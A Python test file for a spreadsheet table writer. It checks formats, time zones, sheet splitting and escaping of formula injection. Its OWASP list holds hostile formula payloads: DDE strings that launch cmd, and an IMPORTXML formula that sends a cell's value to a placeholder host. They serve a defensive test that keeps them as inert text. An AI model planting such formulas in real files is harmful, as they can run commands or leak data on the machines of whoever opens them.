"""The fast table writer: values, formats, injection-proof text, splitting at the row limit."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl import Workbook

from analysis.export.xlsx_writer import (
    Column,
    ColumnKind,
    StyleBook,
    TableText,
    add_excel_table,
    chunks_of,
    column_kind,
    write_table,
)

FORMATS = {
    ColumnKind.INT: "#,##0",
    ColumnKind.FLOAT: "#,##0.00",
    ColumnKind.DATE: "yyyy-mm-dd",
    ColumnKind.DATETIME: "yyyy-mm-dd hh:mm",
}
OWASP = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://x","y")',
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=1+2';=1+2",
    "'=1+1",
    "+cmd|' /C notepad'!'A1'",
    "@SUM(A1:A2)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
    '=WEBSERVICE("http://x")',
]


def columns_for(frame: pd.DataFrame) -> list[Column]:
    kinds = {c: column_kind(frame[c]) for c in frame.columns}
    return [Column(c, c.upper(), k, FORMATS.get(k, "General")) for c, k in kinds.items()]


def write(frame: pd.DataFrame, path: Path, chunk: int = 20_000, **kwargs: object) -> list[str]:
    wb = Workbook(write_only=True)
    styles = StyleBook(wb)
    columns = columns_for(frame)
    parts = write_table(
        wb, "Dane", chunks_of(frame, chunk), columns, TableText("Tabela"), styles, **kwargs
    )  # type: ignore[arg-type]
    for i, part in enumerate(parts):
        add_excel_table(part, columns, f"T{i}")
    wb.save(path)
    return [p.sheet.title for p in parts]


def sample() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "n": np.array([1, 2_000_000, -3], dtype=np.int64),
            "x": [0.1, np.nan, 1e-7],
            "day": pd.to_datetime(["2026-01-31", None, "1999-12-31"]),
            "when": pd.to_datetime(["2026-01-31 23:30", "2026-07-01 10:00", None], utc=True),
            "ok": [True, False, True],
            "opis": ["Dziura, ul. Łąkowa <5> & co", None, "  spacje  "],
            "cnt": pd.array([1, None, 3], dtype="Int64"),
        }
    )


def test_values_types_and_formats_come_back(tmp_path: Path) -> None:
    write(sample(), tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Dane"]
    assert ws["A1"].value == "Tabela" and ws["A1"].font.b
    assert [c.value for c in ws[2]] == ["N", "X", "DAY", "WHEN", "OK", "OPIS", "CNT"]
    assert ws.freeze_panes == "A3"
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=3)]
    assert rows[0][:2] == [1, 0.1] and rows[1][0] == 2_000_000 and rows[2][1] == 1e-7
    assert rows[1][1] is None and rows[1][2] is None and rows[2][3] is None
    assert rows[0][2].isoformat() == "2026-01-31T00:00:00"
    assert rows[2][2].isoformat() == "1999-12-31T00:00:00"
    # UTC 23:30 on 31 January is 00:30 on 1 February in Warsaw (CET), 10:00 in July is 12:00
    assert rows[0][3].isoformat() == "2026-02-01T00:30:00"
    assert rows[1][3].isoformat() == "2026-07-01T12:00:00"
    assert [r[4] for r in rows] == [True, False, True]
    assert rows[0][5] == "Dziura, ul. Łąkowa <5> & co" and rows[1][5] is None
    assert rows[2][5] == "  spacje  "
    assert [r[6] for r in rows] == [1, None, 3]
    assert [ws.cell(3, i).number_format for i in range(1, 5)] == [
        "#,##0",
        "#,##0.00",
        "yyyy-mm-dd",
        "yyyy-mm-dd hh:mm",
    ]
    assert ws.tables["T0"].ref == "A2:G5"
    assert [c.name for c in ws.tables["T0"].tableColumns] == [
        "N",
        "X",
        "DAY",
        "WHEN",
        "OK",
        "OPIS",
        "CNT",
    ]


def test_column_kinds() -> None:
    frame = sample()
    assert [column_kind(frame[c]) for c in frame.columns] == [
        ColumnKind.INT,
        ColumnKind.FLOAT,
        ColumnKind.DATE,
        ColumnKind.DATETIME,
        ColumnKind.BOOL,
        ColumnKind.TEXT,
        ColumnKind.INT,
    ]


def test_formula_payloads_stay_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"opis": OWASP, "n": range(len(OWASP))})
    write(frame, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Dane"]
    for row, payload in enumerate(OWASP, 3):
        cell = ws.cell(row, 1)
        assert cell.data_type == "s", payload
        assert cell.value == payload
        assert cell.quotePrefix == (payload[0] in "=+-@\t\r"), payload


def test_control_characters_xml_cannot_hold_are_dropped(tmp_path: Path) -> None:
    frame = pd.DataFrame({"opis": ["a\x00b\x07c\x1fd", "wiersz\nnowy\rkoniec\ttab"]})
    write(frame, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Dane"]
    assert ws["A3"].value == "abcd"
    assert ws["A4"].value == "wiersz\nnowy\rkoniec\ttab"


@pytest.mark.parametrize("chunk", [4, 100])
def test_long_table_continues_on_more_sheets(tmp_path: Path, chunk: int) -> None:
    frame = pd.DataFrame({"i": np.arange(25), "t": [f"wiersz {i}" for i in range(25)]})
    titles = write(frame, tmp_path / "t.xlsx", chunk=chunk, row_limit=10)
    assert titles == ["Dane", "Dane (2)", "Dane (3)", "Dane (4)"]
    wb = openpyxl.load_workbook(tmp_path / "t.xlsx")
    seen = []
    for k, title in enumerate(titles):
        ws = wb[title]
        assert ws.max_row <= 10 and ws.freeze_panes == "A3"
        assert [c.value for c in ws[2]] == ["I", "T"]
        if k:
            before = titles[k - 1]
            assert ws["A1"].value == f"Tabela, continued from sheet '{before}' (part {k + 1})."
        data = [r for r in ws.iter_rows(min_row=3, values_only=True) if isinstance(r[0], int)]
        seen += [r[0] for r in data]
        if k < len(titles) - 1:
            assert len(data) == 7
            assert ws.cell(ws.max_row, 1).value == f"Continued on sheet '{titles[k + 1]}'."
        assert ws.tables[f"T{k}"].ref == f"A2:B{2 + len(data)}"
    assert seen == list(range(25))


def test_exactly_full_sheet_opens_no_empty_continuation(tmp_path: Path) -> None:
    frame = pd.DataFrame({"i": np.arange(14)})
    assert write(frame, tmp_path / "t.xlsx", row_limit=10) == ["Dane", "Dane (2)"]


def test_empty_table_says_so(tmp_path: Path) -> None:
    frame = pd.DataFrame({"i": pd.Series([], dtype="int64")})
    write(frame, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Dane"]
    assert ws["A3"].value == "No rows." and not ws.tables
    assert ws.auto_filter.ref == "A2:A2"


def test_row_limit_needs_room_for_a_row(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="row_limit"):
        write(pd.DataFrame({"i": [1]}), tmp_path / "t.xlsx", row_limit=3)
